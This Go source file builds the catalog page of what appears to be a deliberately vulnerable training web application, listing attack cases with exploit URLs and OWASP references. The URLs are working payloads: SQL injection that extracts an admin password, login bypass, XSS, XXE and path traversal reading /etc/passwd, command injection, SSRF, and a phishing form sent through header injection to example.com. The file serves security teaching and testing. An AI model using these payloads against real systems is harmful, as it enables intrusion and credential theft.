// Package catalog lists the vulnerability cases linked from the index page.
package catalog

import (
	"fmt"
	"net/url"
	"strings"
)

// Case is a single entry in the catalog. An empty Trigger or Exploit means the case has none.
type Case struct {
	Name        string
	Trigger     string
	Exploit     string
	Info        string
	RequiresXML bool
}

// Catalog is the ordered list of cases
type Catalog struct {
	cases []Case
}

const (
	owasp      = "https://owasp.org/www-community/"
	owaspTests = "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/"
)

// New builds the catalog. baseURL is where the service is reachable, used by
// cases that make the service fetch its own resources.
func New(baseURL string) *Catalog {
	baseURL = strings.TrimSuffix(baseURL, "/")
	selfJSONP := url.QueryEscape(baseURL + "/users.json?callback=print(JSON.stringify")

	return &Catalog{cases: []Case{
		{"Blind SQL Injection (<i>boolean</i>)", "/?id=2", "/?id=2%20AND%20SUBSTR((SELECT%20password%20FROM%20users%20WHERE%20name%3D%27admin%27)%2C1%2C1)%3D%277%27", owasp + "attacks/Blind_SQL_Injection", false},
		{"Blind SQL Injection (<i>time</i>)", "/?id=2", "/?id=(SELECT%20(CASE%20WHEN%20(SUBSTR((SELECT%20password%20FROM%20users%20WHERE%20name%3D%27admin%27)%2C2%2C1)%3D%27e%27)%20THEN%20(LIKE(%27ABCDEFG%27%2CUPPER(HEX(RANDOMBLOB(300000000)))))%20ELSE%200%20END))", owasp + "attacks/Blind_SQL_Injection", false},
		{"UNION SQL Injection", "/?id=2", "/?id=2%20UNION%20ALL%20SELECT%20NULL%2C%20NULL%2C%20NULL%2C%20(SELECT%20id%7C%7C%27%2C%27%7C%7Cusername%7C%7C%27%2C%27%7C%7Cpassword%20FROM%20users%20WHERE%20username%3D%27admin%27)", owasp + "attacks/SQL_Injection", false},
		{"Login Bypass", "/login?username=&password=", "/login?username=admin&password=%27%20OR%20%271%27%20LIKE%20%271", owasp + "attacks/SQL_Injection", false},
		{"HTTP Parameter Pollution", "/login?username=&password=", "/login?username=admin&password=%27%2F*&password=*%2FOR%2F*&password=*%2F%271%27%2F*&password=*%2FLIKE%2F*&password=*%2F%271", owaspTests + "07-Input_Validation_Testing/04-Testing_for_HTTP_Parameter_Pollution", false},
		{"Cross Site Scripting (<i>reflected</i>)", "/?v=0.2", "/?v=0.2%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", owasp + "attacks/xss/", false},
		{"Cross Site Scripting (<i>stored</i>)", "/?comment=", "/?comment=%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", owasp + "attacks/xss/", false},
		{"Cross Site Scripting (<i>DOM</i>)", "/?#lang=en", "/?foobar#lang=en%3Cscript%3Ealert(%22arbitrary%20javascript%22)%3C%2Fscript%3E", owasp + "attacks/DOM_Based_XSS", false},
		{"Cross Site Scripting (<i>JSONP</i>)", "/users.json?callback=process", "/users.json?callback=alert(%22arbitrary%20javascript%22)%3Bprocess", owasp + "attacks/xss/", false},
		{"XML External Entity (<i>local</i>)", "/?xml=%3Croot%3E%3C%2Froot%3E", "/?xml=%3C!DOCTYPE%20example%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Croot%3E%26xxe%3B%3C%2Froot%3E", owasp + "vulnerabilities/XML_External_Entity_(XXE)_Processing", true},
		{"XML External Entity (<i>remote</i>)", "/?xml=%3Croot%3E%3C%2Froot%3E", "/?xml=%3C!DOCTYPE%20example%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22http%3A%2F%2Fexample.com%2F%22%3E%5D%3E%3Croot%3E%26xxe%3B%3C%2Froot%3E", owasp + "vulnerabilities/XML_External_Entity_(XXE)_Processing", true},
		{"Server Side Request Forgery", "/?path=", "/?path=http%3A%2F%2F127.0.0.1%3A631", owasp + "attacks/Server_Side_Request_Forgery", false},
		{"Blind XPath Injection (<i>boolean</i>)", "/?name=dian", "/?name=admin%27%20and%20substring(password%2Ftext()%2C3%2C1)%3D%27n", owasp + "attacks/Blind_XPath_Injection", true},
		{"Cross Site Request Forgery", "/?comment=", "/?v=%3Cimg%20src%3D%22%2F%3Fcomment%3D%253Cdiv%2520style%253D%2522color%253Ared%253B%2520font-weight%253A%2520bold%2522%253EI%2520quit%2520the%2520job%253C%252Fdiv%253E%22%3E", owasp + "attacks/csrf", false},
		{"Frame Injection (<i>phishing</i>)", "/?v=0.2", "/?v=0.2%3Ciframe%20src%3D%22http%3A%2F%2Fexample.com%2Flogin%22%20style%3D%22background-color%3Awhite%3Bz-index%3A10%3Btop%3A10%25%3Bleft%3A10%25%3Bposition%3Afixed%3Bborder-collapse%3Acollapse%3Bborder%3A1px%20solid%20%23a8a8a8%22%3E%3C%2Fiframe%3E", owasp + "attacks/Content_Spoofing", false},
		{"Clickjacking", "", "/?v=0.2%3Cdiv%20style%3D%22opacity%3A0%3Bfilter%3Aalpha(opacity%3D20)%3Bbackground-color%3A%23000%3Bwidth%3A100%25%3Bheight%3A100%25%3Bz-index%3A10%3Btop%3A0%3Bleft%3A0%3Bposition%3Afixed%3B%22%20onclick%3D%22document.location%3D%27http%3A%2F%2Fexample.com%2F%27%22%3E%3C%2Fdiv%3E%3Cscript%3Ealert(%22click%20anywhere%20on%20page%22)%3B%3C%2Fscript%3E", owasp + "attacks/Clickjacking", false},
		{"Unvalidated Redirect", "/?redir=%2F", "/?redir=http%3A%2F%2Fexample.com", "https://cheatsheetseries.owasp.org/cheatsheets/Unvalidated_Redirects_and_Forwards_Cheat_Sheet.html", false},
		{"Arbitrary Code Execution", "/?domain=www.google.com", "/?domain=www.google.com%3B%20ifconfig", owasp + "attacks/Command_Injection", false},
		{"Full Path Disclosure", "/?path=", "/?path=foobar", owasp + "attacks/Full_Path_Disclosure", false},
		{"Source Code Disclosure", "/?path=", "/?path=main.go", owaspTests + "02-Configuration_and_Deployment_Management_Testing/04-Review_Old_Backup_and_Unreferenced_Files_for_Sensitive_Information", false},
		{"Path Traversal", "/?path=", "/?path=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", owasp + "attacks/Path_Traversal", false},
		{"File Inclusion (<i>local</i>)", "/?include=scripts%2Fshell.js", "/?include=scripts%2Fshell.js&cmd=ifconfig", owaspTests + "07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion", false},
		{"File Inclusion (<i>remote</i>)", "/?include=", "/?include=" + selfJSONP, owaspTests + "07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion", false},
		{"HTTP Header Injection (<i>phishing</i>)", "/?charset=utf8", "/?charset=utf8%0D%0AX-XSS-Protection:0%0D%0A%0D%0A%3C!DOCTYPE%20html%3E%3Chtml%3E%3Chead%3E%3Ctitle%3ELogin%3C%2Ftitle%3E%3C%2Fhead%3E%3Cbody%20style%3D%27font%3A%2012px%20monospace%27%3E%3Cform%20action%3D%22http%3A%2F%2Fexample.com%2Flog%22%20onSubmit%3D%22alert(%27visit%20example.com%27)%22%3EUsername%3A%3Cbr%3E%3Cinput%20type%3D%22text%22%20name%3D%22username%22%3E%3Cbr%3EPassword%3A%3Cbr%3E%3Cinput%20type%3D%22password%22%20name%3D%22password%22%3E%3Cinput%20type%3D%22submit%22%20value%3D%22Login%22%3E%3C%2Fform%3E%3C%2Fbody%3E%3C%2Fhtml%3E", owasp + "attacks/HTTP_Response_Splitting", false},
		{"Insecure Deserialization", "/?object=%7Bname%3A%20dian%7D", "/?object=!system%20ping%20-c%205%20127.0.0.1", owasp + "vulnerabilities/Deserialization_of_untrusted_data", false},
		{"Denial of Service (<i>memory</i>)", "/?size=32", "/?size=9999", owasp + "attacks/Denial_of_Service", false},
	}}
}

// Cases returns a copy of the cases in rendering order
func (c *Catalog) Cases() []Case {
	cases := make([]Case, len(c.cases))
	copy(cases, c.cases)
	return cases
}

// Len returns the number of cases
func (c *Catalog) Len() int {
	return len(c.cases)
}

// Render returns the catalog as an HTML list. Cases that need XML are
// rendered disabled when xmlEnabled is false.
func (c *Catalog) Render(xmlEnabled bool) string {
	var b strings.Builder
	b.WriteString("<div><span>Attacks:</span></div>\n<ul>\n")
	for _, tc := range c.cases {
		attrs := ""
		if tc.RequiresXML && !xmlEnabled {
			attrs = ` class="disabled" title="XML support is disabled"`
		}
		fmt.Fprintf(&b, "<li%s>%s - %s%s<a href=\"%s\" target=\"_blank\">info</a></li>\n",
			attrs, tc.Name, link(tc.Trigger, "vulnerable"), link(tc.Exploit, "exploit"), tc.Info)
	}
	b.WriteString("</ul>\n")
	return b.String()
}

func link(href, label string) string {
	if href == "" {
		return "<b>-</b>|"
	}
	return fmt.Sprintf("<a href=\"%s\">%s</a>|", href, label)
}
